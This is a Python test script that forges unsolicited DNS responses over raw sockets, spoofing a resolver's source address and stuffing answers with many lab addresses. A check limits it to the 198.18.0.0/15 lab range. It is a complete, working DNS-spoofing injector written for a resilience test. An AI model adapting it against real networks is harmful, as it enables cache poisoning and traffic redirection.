#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
# Forged DNS responses for the spoofing test: answers nobody asked for,
# claiming a benign name resolves to many addresses across many networks
# (and to the resolver's own address), sent with the resolver's source
# address from inside the lab's world namespace. Lab addresses only.
import argparse
import ipaddress
import random
import socket
import struct
import time

LAB_NETS = [ipaddress.ip_network("198.18.0.0/15")]


def lab_only(addr):
    a = ipaddress.ip_address(addr)
    if not any(a in n for n in LAB_NETS):
        raise SystemExit(f"forge: {addr} is outside the lab's 198.18.0.0/15")
    return addr


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def qname(name):
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def response(name, addrs, ttl, qid):
    hdr = struct.pack("!HHHHHH", qid, 0x8180, 1, len(addrs), 0, 0)
    msg = hdr + qname(name) + struct.pack("!HH", 1, 1)
    for a in addrs:
        msg += struct.pack("!HHHIH", 0xC00C, 1, 1, ttl, 4)
        msg += socket.inet_aton(a)
    return msg


def packet(src, dst, sport, dport, payload):
    udp_len = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst)
    pseudo += struct.pack("!BBH", 0, 17, udp_len)
    udp = struct.pack("!HHHH", sport, dport, udp_len, 0) + payload
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, random.randrange(65536),
                     0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + udp


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--src", required=True, help="forged source (the resolver)")
    ap.add_argument("--dst", required=True, help="the client")
    ap.add_argument("--name", required=True)
    ap.add_argument("--count", type=int, default=300)
    ap.add_argument("--per-answer", type=int, default=8)
    ap.add_argument("--seconds", type=float, default=8.0)
    ap.add_argument("--extra", action="append", default=[],
                    help="an address to put in every answer")
    a = ap.parse_args()
    src, dst = lab_only(a.src), lab_only(a.dst)
    extra = [lab_only(x) for x in a.extra]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    gap = a.seconds / max(a.count, 1)
    for i in range(a.count):
        # A different /24 (a different lab ASN) for every address.
        addrs = [f"198.19.{random.randrange(64)}.{random.randrange(1, 250)}"
                 for _ in range(a.per_answer)] + extra
        msg = response(a.name, addrs, 1, random.randrange(65536))
        pkt = packet(src, dst, 53, random.randrange(1024, 65536), msg)
        sock.sendto(pkt, (dst, 0))
        time.sleep(gap)
    print(f"forge: sent {a.count} forged responses for {a.name}")


if __name__ == "__main__":
    main()
